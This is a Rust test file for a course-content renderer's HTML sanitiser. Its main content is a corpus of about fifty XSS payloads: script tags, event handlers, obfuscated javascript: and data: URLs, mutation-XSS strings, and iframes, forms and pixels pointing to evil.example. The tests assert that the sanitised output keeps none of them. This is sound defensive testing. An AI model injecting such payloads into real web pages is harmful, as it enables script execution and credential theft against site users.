//! The renderer: the XSS corpus parsed with a real HTML parser, idempotence,
//! media rewriting, and `juntos render`.

use std::collections::HashSet;

use juntos::model::Lang;
use juntos::render::{render_markdown, sanitize, MediaKind, RenderOptions, ResolvedMedia};
use scraper::{Html, Selector};

fn media(name: &str) -> Option<ResolvedMedia> {
    match name {
        "video.mp4" => Some(ResolvedMedia { url: "media/aa.mp4".into(), kind: MediaKind::Video }),
        "foto.png" => Some(ResolvedMedia { url: "media/bb.png".into(), kind: MediaKind::Image }),
        _ => None,
    }
}

fn render(md: &str) -> String {
    render_markdown(md, &RenderOptions { lang: Lang::En, media: &media })
}

fn allowed() -> HashSet<String> {
    ["media/aa.mp4", "media/bb.png"].into_iter().map(String::from).collect()
}

const CORPUS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<p onclick=\"alert(1)\" onmouseover=alert(2)>hi</p>",
    "<a href=\"javascript:alert(1)\">a</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">b</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">c</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">d</a>",
    "<a href=\" \u{1}javascript:alert(1)\">e</a>",
    "<a href=\"java\nscript:alert(1)\">f</a>",
    "[g](javascript:alert(1))",
    "[h](JAVASCRIPT:alert(1))",
    "[i](&#x6A;avascript:alert(1))",
    "[j](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![k](data:image/svg+xml;base64,PHN2Zy8+)",
    "[l](vbscript:msgbox(1))",
    "[m](VbScRiPt:msgbox(1))",
    "<a href=\"data:text/html,<script>alert(1)</script>\">n</a>",
    "<svg onload=alert(1)><circle r=1/></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"evil.swf\"></object><embed src=\"evil.swf\">",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<div style=\"background:url(javascript:alert(1))\">s</div>",
    "<form action=\"https://evil.example\"><input type=text name=p><button>go</button></form>",
    "<input type=\"text\" onfocus=alert(1) autofocus>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "[o](//evil.example/x)",
    "<a href=\"//evil.example\">p</a>",
    "<a href=\"\\\\evil.example\\share\">q</a>",
    "<a href=\"/etc/passwd\">r</a>",
    "[s](../../secret.txt)",
    "![t](https://evil.example/track.png)",
    "<img src=\"https://evil.example/pixel.gif\">",
    "<video src=\"https://evil.example/v.mp4\"></video>",
    "<img src=\"media/bb.png\" onload=alert(1)>",
    "<a href=\"#x\" id=\"JUNTOS_COURSE\">u</a>",
    "<details open ontoggle=alert(1)>v</details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<!-- <script>alert(1)</script> -->",
    "<a href=\"https://ok.example\" target=\"_blank\" rel=\"opener\">w</a>",
];

/// What must not exist anywhere in a rendered document.
fn assert_clean(html: &str, input: &str) {
    let doc = Html::parse_fragment(html);
    for tag in [
        "script", "style", "iframe", "object", "embed", "svg", "math", "form", "base", "meta",
        "link", "template", "noscript", "button", "details",
    ] {
        let sel = Selector::parse(tag).unwrap();
        assert!(doc.select(&sel).next().is_none(), "<{tag}> survived {input:?}: {html}");
    }
    let all = Selector::parse("*").unwrap();
    for el in doc.select(&all) {
        let name = el.value().name();
        for (attr, value) in el.value().attrs() {
            let lower = attr.to_ascii_lowercase();
            assert!(!lower.starts_with("on"), "event attribute {attr} survived {input:?}: {html}");
            assert!(
                lower != "style" && lower != "srcdoc" && lower != "formaction" && lower != "target",
                "{attr} survived {input:?}: {html}"
            );
            if lower == "href"
                || lower == "src"
                || lower == "xlink:href"
                || lower == "action"
                || lower == "poster"
            {
                let v: String = value
                    .chars()
                    .filter(|c| !c.is_whitespace() && !c.is_control())
                    .collect::<String>()
                    .to_ascii_lowercase();
                let ok = v.starts_with("https://")
                    || v.starts_with("http://")
                    || v.starts_with("mailto:")
                    || v.starts_with('#')
                    || allowed().contains(value);
                assert!(ok, "URL {value:?} in {attr} survived {input:?}: {html}");
                assert!(
                    !v.starts_with("//") && !v.starts_with("\\\\"),
                    "protocol-relative {value:?}: {html}"
                );
            }
            if (name == "img" || name == "video" || name == "audio") && lower == "src" {
                assert!(
                    allowed().contains(value),
                    "{name} loads {value:?} from outside the package: {html}"
                );
            }
            if lower == "id" {
                assert!(value.starts_with("juntos-fn-"), "unprefixed id {value:?}: {html}");
            }
        }
        if name == "input" {
            assert!(matches!(el.value().attr("type"), None | Some("checkbox")), "{html}");
            assert!(el.value().attr("disabled").is_some(), "{html}");
        }
    }
}

#[test]
fn xss_corpus_leaves_nothing_executable() {
    for input in CORPUS {
        let html = render(input);
        assert_clean(&html, input);
        // Sanitising the output again changes nothing.
        assert_eq!(sanitize(&html, &allowed()), html, "not idempotent for {input:?}");
    }
    // Raw HTML in markdown is shown as text; the sanitiser itself must
    // hold on its own too, for HTML that does not come from markdown.
    for input in CORPUS {
        let html = sanitize(input, &allowed());
        assert_clean(&html, input);
        assert_eq!(sanitize(&html, &allowed()), html, "sanitize not idempotent for {input:?}");
        assert_eq!(sanitize(input, &allowed()), html, "sanitize not deterministic for {input:?}");
    }
    // And all of it at once, inside markdown structure.
    let everything = CORPUS
        .iter()
        .map(|c| format!("- {c}\n\n> {c}\n\n| x |\n|---|\n| {c} |\n"))
        .collect::<String>();
    let html = render(&everything);
    assert_clean(&html, "everything");
    assert_eq!(sanitize(&html, &allowed()), html);
}

#[test]
fn ordinary_course_markdown_survives() {
    let md = "# Título\n\nTexto **forte**, *ênfase*, ~~riscado~~ e `código`.\n\n\
              | Dia | Tema |\n|---|---|\n| 1 | Direitos |\n\n- [x] feito\n- [ ] por fazer\n\n\
              Uma nota[^1].\n\n[^1]: Rodapé.\n\n> citação\n\n[site](https://example.org) [email](mailto:a@b.org)\n\n\
              ![Entrevista](media:video.mp4)\n\n![Foto](media:foto.png)\n\n![Falta](media:nada.jpg)";
    let html = render(md);
    let doc = Html::parse_fragment(&html);
    let count = |s: &str| doc.select(&Selector::parse(s).unwrap()).count();
    assert_eq!(count("h1"), 1);
    assert_eq!(count("table td"), 2);
    assert_eq!(count("del"), 1);
    assert_eq!(count("input[type=checkbox][disabled]"), 2);
    assert_eq!(count("input[checked]"), 1);
    assert_eq!(count("sup.footnote-reference a[href='#juntos-fn-1']"), 1);
    assert_eq!(count("div.footnote-definition#juntos-fn-1"), 1);
    assert_eq!(count("a[href='https://example.org'][rel='noopener noreferrer']"), 1);
    assert_eq!(count("a[href='mailto:a@b.org']"), 1);
    assert_eq!(count("video[controls][src='media/aa.mp4']"), 1);
    assert_eq!(count("img[src='media/bb.png'][alt=Foto]"), 1);
    let missing: Vec<_> = doc
        .select(&Selector::parse("span.juntos-media-missing").unwrap())
        .map(|e| e.text().collect::<String>())
        .collect();
    assert_eq!(missing, ["[missing media: nada.jpg]"]);
    assert_clean(&html, md);
}

#[test]
fn a_video_is_decided_by_its_kind_and_unknown_media_requests_nothing() {
    let html = render("![a](media:VIDEO.mp4) [b](media:nada.pdf)");
    assert!(!html.contains("<video") && !html.contains("href=\"media:"), "{html}");
    assert_eq!(html.matches("juntos-media-missing").count(), 2, "{html}");
    let pt = render_markdown(
        "![a](media:x.mp4)",
        &RenderOptions { lang: Lang::Pt, media: &juntos::render::no_media },
    );
    assert!(pt.contains("[ficheiro em falta: x.mp4]"), "{pt}");
}

#[test]
fn cli_prints_a_lesson_as_package_html() {
    let (dir, mut lib) = crate::support::library("Liga");
    let course = crate::support::rich_course(&mut lib);
    let video = lib.media(&course, "entrevista.mp4").unwrap();
    drop(lib);
    let out = crate::support::juntos(dir.path())
        .args(["render", "direitos-crianca", "1.1", "--lang", "en"])
        .output()
        .unwrap();
    assert!(out.status.success());
    let html = String::from_utf8(out.stdout).unwrap();
    assert!(html.contains("<h1>Rights</h1>"), "{html}");
    let doc = Html::parse_fragment(&html);
    let sel =
        Selector::parse(&format!("video[controls][src='media/{}.mp4']", video.sha256)).unwrap();
    assert_eq!(doc.select(&sel).count(), 1, "{html}");
}
